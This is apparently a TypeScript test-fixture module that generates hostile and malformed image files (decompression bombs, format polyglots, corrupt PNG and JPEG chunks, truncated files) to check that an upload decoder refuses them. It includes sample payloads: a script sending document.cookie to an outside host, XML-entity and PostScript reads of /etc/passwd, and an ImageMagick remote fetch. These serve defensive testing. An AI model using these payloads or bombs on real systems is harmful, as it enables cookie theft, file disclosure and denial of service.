/**
 * Broken, truncated, mislabelled and hostile pictures, generated in code. Nothing here is a recorded attack: each
 * does one thing that a parser or a decoder could fall for.
 */
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { hostileContainers } from './hostile-containers.ts';
import {
  blankPng,
  drawPicture,
  makePicture,
  type PngHeader,
  pngChunk,
  pngEnd,
  pngHeader,
  pngStart,
} from './picture-files.ts';

export interface HostilePicture {
  readonly name: string;
  readonly bytes: Buffer;
  /** `either`: some decoder may rightly read it. Then it is a picture, and taken without harm. */
  readonly expected: 'refused' | 'either';
}

/** Those of them that are a picture by their first bytes are told by a decoder, the others before. */
export async function makeHostilePictures(): Promise<readonly HostilePicture[]> {
  const [png, jpeg, progressive, webp, gif, avif, heic] = await Promise.all([
    makePicture('png'),
    makePicture('jpeg'),
    drawPicture(64, 48).jpeg({ progressive: true }).toBuffer(),
    makePicture('webp'),
    makePicture('gif'),
    makePicture('avif'),
    makePicture('heic'),
  ]);
  const lossless = await drawPicture(64, 48, { isClear: true }).webp({ lossless: true }).toBuffer();
  return [
    ...noPictures(png),
    ...polyglots(png, jpeg),
    ...pngSizes(),
    ...pngBombs(),
    ...pngChunks(png),
    ...jpegs(jpeg, progressive),
    ...hostileContainers({ webp, lossless, gif, avif, heic }),
    ...truncated({ png, jpeg, progressive, webp, lossless, avif, heic }),
    ...scratched({ png, jpeg, webp, lossless, gif, avif, heic }),
  ];
}

export function refused(name: string, ...parts: (Buffer | string | readonly number[])[]): HostilePicture {
  return { name, bytes: join(parts), expected: 'refused' };
}

export function either(name: string, ...parts: (Buffer | string | readonly number[])[]): HostilePicture {
  return { name, bytes: join(parts), expected: 'either' };
}

function join(parts: readonly (Buffer | string | readonly number[])[]): Buffer {
  return Buffer.concat(
    parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part))),
  );
}

/** The same bytes in every run. */
export function noise(length: number, seed = 1): Buffer {
  const bytes = Buffer.alloc(length);
  let state = seed * 2654435761;
  for (let i = 0; i < length; i++) {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    bytes[i] = state & 0xff;
  }
  return bytes;
}

const script = '<script>fetch("https://example.com/"+document.cookie)</script>';
const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${script}</svg>`;

function noPictures(png: Buffer): HostilePicture[] {
  return [
    refused('empty'),
    refused('one byte', [0x89]),
    refused('a zero', [0]),
    refused('zeros', Buffer.alloc(10_000)),
    refused('a word', 'hello'),
    refused('noise', noise(50_000)),
    refused('other noise', noise(50_000, 7)),
    refused('svg with a script', svg),
    refused('svg behind its declaration', `<?xml version="1.0"?>\n${svg}`),
    refused('svg that reads a file', svg.replace(script, '<image href="file:///etc/passwd"/>')),
    refused(
      'svg with an entity',
      '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
    ),
    refused('packed svg', gzipSync(svg)),
    refused('html', `<!doctype html>${script}`),
    refused('pdf', '%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF'),
    refused('zip', 'PK\x05\x06', Buffer.alloc(18)),
    refused('tiff', 'II*\0\x08\0\0\0\0\0\0\0\0\0'),
    refused('large tiff', 'MM\0+\0\x08\0\0', Buffer.alloc(32)),
    refused('bmp', 'BM', Buffer.alloc(64)),
    refused('ico', [0, 0, 1, 0, 1, 0], Buffer.alloc(64)),
    refused('psd', '8BPS\0\x01', Buffer.alloc(64)),
    refused('jpeg xl', [0xff, 0x0a], noise(200)),
    refused('jpeg 2000', '\0\0\0\x0cjP  \r\n\x87\n', noise(200)),
    refused('ppm', 'P6\n99999 99999\n255\n', Buffer.alloc(300)),
    refused('radiance', '#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 9 +X 9\n', Buffer.alloc(400)),
    refused('postscript', '%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n'),
    refused('a script for ImageMagick', 'push graphic-context\nimage over 0,0 0,0 "https://example.com/"\n'),
    refused('a matrix of libvips', '1 1\n99999999\n'),
    refused("libvips' own format", [0xb6, 0xa6, 0xf2, 0x08], Buffer.alloc(100)),
    refused('a wave', 'RIFF\x24\0\0\0WAVEfmt ', Buffer.alloc(40)),
    refused('a film', '\0\0\0\x18ftypisom\0\0\0\0isomavc1', Buffer.alloc(40)),
    refused('text that says png', 'PNG\r\n\x1a\n', png.subarray(8)),
    refused('png as a data address', `data:image/png;base64,${png.toString('base64')}`),
    refused('png whose line ends were changed', png.toString('latin1').replaceAll('\r\n', '\n')),
  ];
}

function polyglots(png: Buffer, jpeg: Buffer): HostilePicture[] {
  const zip = Buffer.concat([Buffer.from('PK\x05\x06'), Buffer.alloc(18)]);
  return [
    refused('html in front of a png', `<html>${script}`, png),
    refused('pdf in front of a png', '%PDF-1.7\n', png),
    refused('zip in front of a png', zip, png),
    refused('a line in front of a png', '\n', png),
    refused('svg in front of a jpeg', svg, jpeg),
    refused('a tag in front of a jpeg', 'ID3\x04\0\0\0\0\0\0', jpeg),
    refused('svg behind the start of a png', pngStart, svg),
    refused('html behind the start of a jpeg', [0xff, 0xd8, 0xff, 0xe0], `<html>${script}`),
    refused('a script as a gif', `GIF89a/*${'x'.repeat(30)}*/=1;alert(1)`),
    refused('svg as a gif', 'GIF89a', svg),
    refused('svg as a webp', 'RIFF\xff\0\0\0WEBPVP8 ', svg),
    refused('pdf as a heic', '\0\0\0\x18ftypheic\0\0\0\0mif1heic', '%PDF-1.7\n'),
    refused('a jpeg behind the start of a png', pngStart, jpeg),
    refused('a png behind the start of a jpeg', [0xff, 0xd8, 0xff], png),
    either('zip behind a png', png, zip),
    either('html behind a jpeg', jpeg, script),
    either('png with svg as its text', insert(png, pngChunk('tEXt', Buffer.from(`svg\0${svg}`)))),
    either('jpeg called image.png', jpeg),
    either('png called image.svg', png),
  ];
}

function pngSizes(): HostilePicture[] {
  const claim = (header: PngHeader) => {
    const data = pngChunk('IDAT', deflateSync(Buffer.alloc(1000)));
    return Buffer.concat([pngStart, pngHeader(header), data, pngEnd]);
  };
  return [
    refused('png of 0 × 0', claim({ width: 0, height: 0 })),
    refused('png of 0 × 9', claim({ width: 0, height: 9 })),
    refused('png of 9 × 0', claim({ width: 9, height: 0 })),
    refused('png of 1 × 1,000,000', blankPng({ width: 1, height: 1_000_000, colour: 0 })),
    refused('png of 1,000,000 × 1', blankPng({ width: 1_000_000, height: 1, colour: 0 })),
    refused('png of 16,385 × 1', blankPng({ width: 16_385, height: 1 })),
    refused('png that claims 100,000 × 100,000', claim({ width: 100_000, height: 100_000 })),
    refused('png that claims all there is', claim({ width: 2 ** 31 - 1, height: 2 ** 31 - 1 })),
    refused('png that claims more than there is', claim({ width: 2 ** 32 - 1, height: 2 ** 32 - 1 })),
    refused('png that claims rows that it has not', claim({ width: 4000, height: 4000 })),
    refused('png of 3 bits', claim({ width: 9, height: 9, depth: 3 })),
    refused('png of 255 bits', claim({ width: 9, height: 9, depth: 255 })),
    refused('png of colour type 5', claim({ width: 9, height: 9, colour: 5 })),
    refused('png with a palette that is not there', claim({ width: 9, height: 9, colour: 3 })),
  ];
}

function pngBombs(): HostilePicture[] {
  const tiny = { width: 8, height: 8 };
  const zeros = (megabytes: number) => deflateSync(Buffer.alloc(megabytes * 1024 * 1024), { level: 1 });
  const tooMuch = pngChunk('IDAT', zeros(64));
  return [
    refused('png bomb of 8001 × 8001', blankPng({ width: 8001, height: 8001, depth: 1, colour: 0 })),
    refused('png bomb of 16,384 × 16,384', blankPng({ width: 16_384, height: 16_384, depth: 1, colour: 0 })),
    either('png of 8000 × 8000, row by row', blankPng({ width: 8000, height: 8000 })),
    refused(
      'interlaced png bomb of 8000 × 8000',
      blankPng({ width: 8000, height: 8000, depth: 1, colour: 0, isInterlaced: true }),
    ),
    refused(
      'interlaced png that claims 16,000 × 4000',
      Buffer.concat([
        pngStart,
        pngHeader({ width: 16_000, height: 4000, isInterlaced: true }),
        tooMuch,
        pngEnd,
      ]),
    ),
    either(
      'interlaced png of 16 bits and 4096 × 4096',
      Buffer.concat([
        pngStart,
        pngHeader({ width: 4096, height: 4096, depth: 16, colour: 6, isInterlaced: true }),
        pngChunk('IDAT', zeros(129)),
        pngEnd,
      ]),
    ),
    either('png with 64 MB of pixels for 8 × 8', Buffer.concat([pngStart, pngHeader(tiny), tooMuch, pngEnd])),
    either('png whose text is a bomb', blankPng(tiny, pngChunk('zTXt', join(['bomb\0\0', zeros(100)])))),
    either(
      'png whose international text is a bomb',
      blankPng(tiny, pngChunk('iTXt', join(['bomb\0\x01\0\0\0', zeros(100)]))),
    ),
    either('png whose profile is a bomb', blankPng(tiny, pngChunk('iCCP', join(['icc\0\0', zeros(100)])))),
    either(
      'png with 20,000 texts',
      blankPng(tiny, ...Array(20_000).fill(pngChunk('tEXt', Buffer.from('a\0b')))),
    ),
    either('png with 8 MB of text', blankPng(tiny, pngChunk('tEXt', join(['a\0', Buffer.alloc(8e6, 'x')])))),
    either('png with 8 MB of EXIF', blankPng(tiny, pngChunk('eXIf', join(['MM\0*', noise(8e6)])))),
    either(
      'png in 60,000 pieces of data',
      Buffer.concat([
        pngStart,
        pngHeader({ width: 200, height: 99 }),
        ...[...deflateSync(Buffer.alloc(601 * 99), { level: 0 })].map((byte) =>
          pngChunk('IDAT', Buffer.from([byte])),
        ),
        pngEnd,
      ]),
    ),
    either(
      'png that says it has four billion frames',
      blankPng(tiny, pngChunk('acTL', Buffer.from([255, 255, 255, 255, 0, 0, 0, 0]))),
    ),
  ];
}

function pngChunks(png: Buffer): HostilePicture[] {
  const header = pngHeader({ width: 8, height: 8 });
  const rows = Buffer.alloc(25 * 8);
  const data = pngChunk('IDAT', deflateSync(rows));
  const file = (...chunks: Buffer[]) => Buffer.concat([pngStart, ...chunks]);
  return [
    refused('png with a wrong sum in its header', file(Buffer.from(header).fill(1, 21), data, pngEnd)),
    refused('png with a wrong sum in its data', file(header, pngChunk('IDAT', deflateSync(rows), 1), pngEnd)),
    either('png with a wrong sum in its text', insert(png, pngChunk('tEXt', Buffer.from('a\0b'), 1))),
    refused('png without data', file(header, pngEnd)),
    refused('png that is its end', file(pngEnd)),
    refused('png with its data behind its end', file(header, pngEnd, data)),
    either('png with two headers', file(header, pngHeader({ width: 9000, height: 9000 }), data, pngEnd)),
    refused('png with its header last', file(data, header, pngEnd)),
    refused('png with a chunk of 4 GB', file(header, Buffer.from('\xff\xff\xff\xffIDAT', 'latin1'), data)),
    refused('png with a chunk of -1', file(header, Buffer.from('\x80\0\0\0IDAT', 'latin1'), data, pngEnd)),
    refused('png with a critical chunk of its own', file(header, pngChunk('EVIL', noise(9)), data, pngEnd)),
    refused('png with noise for data', file(header, pngChunk('IDAT', noise(500)), pngEnd)),
    refused('png with unframed data', file(header, pngChunk('IDAT', deflateRawSync(rows)), pngEnd)),
    refused('png with too few rows', file(header, pngChunk('IDAT', deflateSync(rows.subarray(30))), pngEnd)),
    refused('png with filter 9', file(header, pngChunk('IDAT', deflateSync(Buffer.alloc(200, 9))), pngEnd)),
    either(
      'png with a palette of 300 colours',
      blankPng({ width: 8, height: 8, colour: 3 }, pngChunk('PLTE', Buffer.alloc(900))),
    ),
    either(
      'png that points outside of its palette',
      file(
        pngHeader({ width: 8, height: 8, colour: 3 }),
        pngChunk('PLTE', Buffer.alloc(3)),
        pngChunk('IDAT', deflateSync(Buffer.alloc(72).fill(200, 1, 9))),
        pngEnd,
      ),
    ),
  ];
}

function jpegs(jpeg: Buffer, progressive: Buffer): HostilePicture[] {
  /** Its size stands behind the length and the depth of its frame header. */
  const sized = (file: Buffer, width: number, height: number, bits = 8) => {
    const copy = Buffer.from(file);
    const at = [0xc0, 0xc2]
      .map((marker) => copy.indexOf(Buffer.from([0xff, marker])))
      .find((found) => found > 0);
    if (at === undefined) throw new Error('this jpeg has no frame');
    copy.writeUInt8(bits, at + 4);
    copy.writeUInt16BE(height, at + 5);
    copy.writeUInt16BE(width, at + 7);
    return copy;
  };
  const segment = (marker: number, data: Buffer) =>
    join([[0xff, marker, (data.length + 2) >> 8, (data.length + 2) & 0xff], data]);
  const start = jpeg.subarray(0, 2);
  const rest = jpeg.subarray(2);
  const without = (marker: number) => {
    const copy = Buffer.from(jpeg);
    for (let at = 2; copy[at] === 0xff && copy[at + 1] !== 0xda; at += 2 + copy.readUInt16BE(at + 2))
      if (copy[at + 1] === marker) copy[at + 1] = 0xfe;
    return copy;
  };
  const scanAt = progressive.lastIndexOf(Buffer.from([0xff, 0xda]));
  const lastScan = progressive.subarray(scanAt, -2);
  return [
    refused('jpeg that claims 65,535 × 65,535', sized(jpeg, 65_535, 65_535)),
    refused('jpeg that claims 1 × 65,000', sized(jpeg, 1, 65_000)),
    refused('jpeg that claims 16,000 × 16,000', sized(jpeg, 16_000, 16_000)),
    refused('jpeg that claims 8000 × 8000', sized(jpeg, 8000, 8000)),
    refused('progressive jpeg that claims 8000 × 8000', sized(progressive, 8000, 8000)),
    either('progressive jpeg that claims 4096 × 4096', sized(progressive, 4096, 4096)),
    refused('jpeg of 0 × 0', sized(jpeg, 0, 0)),
    refused('jpeg of 12 bits', sized(jpeg, 64, 48, 12)),
    refused('jpeg without a frame', without(0xc0)),
    either('jpeg without tables of codes', without(0xc4)),
    refused('jpeg without quantisation', without(0xdb)),
    either('jpeg with a segment of no length', start, [0xff, 0xe0, 0, 0], rest),
    refused('jpeg that is its start', start, [0xff]),
    refused('jpeg that is start and end', start, [0xff, 0xd9]),
    refused('jpeg of markers alone', start, Buffer.alloc(100_000, 0xff)),
    either(
      'jpeg with 16 MB of profile',
      start,
      ...Array.from({ length: 255 }, (_, i) => profile(i, segment)),
      rest,
    ),
    either(
      'jpeg with 6 MB of EXIF',
      start,
      ...Array(100).fill(segment(0xe1, join(['Exif\0\0', noise(60_000)]))),
      rest,
    ),
    either('jpeg with EXIF that points nowhere', start, segment(0xe1, exif(0xffff_fff0)), rest),
    either('jpeg with EXIF that points to itself', start, segment(0xe1, exif(8)), rest),
    either(
      'jpeg with 100,000 comments',
      start,
      ...Array(100_000).fill(segment(0xfe, Buffer.from('x'))),
      rest,
    ),
    either(
      'progressive jpeg with 2000 scans',
      progressive.subarray(0, -2),
      ...Array(2000).fill(lastScan),
      [0xff, 0xd9],
    ),
    either(
      'jpeg with noise for a scan',
      jpeg.subarray(0, jpeg.indexOf(Buffer.from([0xff, 0xda])) + 14),
      noise(2000),
    ),
  ];
}

function profile(index: number, segment: (marker: number, data: Buffer) => Buffer): Buffer {
  return segment(0xe2, join(['ICC_PROFILE\0', [index + 1, 255], noise(65_000, index + 1)]));
}

/** One directory with one entry whose value stands at `offset`. */
function exif(offset: number): Buffer {
  const bytes = Buffer.alloc(32);
  bytes.write('Exif\0\0MM\0*', 0, 'latin1');
  bytes.writeUInt32BE(8, 10);
  bytes.writeUInt16BE(1, 14);
  bytes.writeUInt16BE(0x8769, 16);
  bytes.writeUInt16BE(4, 18);
  bytes.writeUInt32BE(0xffff_ffff, 20);
  bytes.writeUInt32BE(offset, 24);
  return bytes;
}

/** A png's or a heic's last bytes say nothing about its pixels; a cut among them may be overlooked. */
function truncated(files: Readonly<Record<string, Buffer>>): HostilePicture[] {
  const cuts = [0.1, 0.25, 0.5, 0.75, 0.9];
  return Object.entries(files).flatMap(([name, bytes]) => [
    ...[12, 16, 24, 33].map((end) => refused(`${name} cut to ${end} bytes`, bytes.subarray(0, end))),
    ...cuts.map((part) =>
      refused(`${name} cut to ${part * 100} %`, bytes.subarray(0, Math.floor(bytes.length * part))),
    ),
    either(`${name} without its last byte`, bytes.subarray(0, -1)),
  ]);
}

function scratched(files: Readonly<Record<string, Buffer>>): HostilePicture[] {
  return Object.entries(files).flatMap(([name, bytes]) =>
    [0.2, 0.5, 0.8].map((part) => {
      const at = Math.floor(bytes.length * part);
      const scratch = noise(Math.min(40, bytes.length - at), at);
      return either(
        `${name} with a scratch at ${part * 100} %`,
        bytes.subarray(0, at),
        scratch,
        bytes.subarray(at + 40),
      );
    }),
  );
}

/** Behind the header of a png. */
function insert(png: Buffer, chunk: Buffer): Buffer {
  return Buffer.concat([png.subarray(0, 33), chunk, png.subarray(33)]);
}
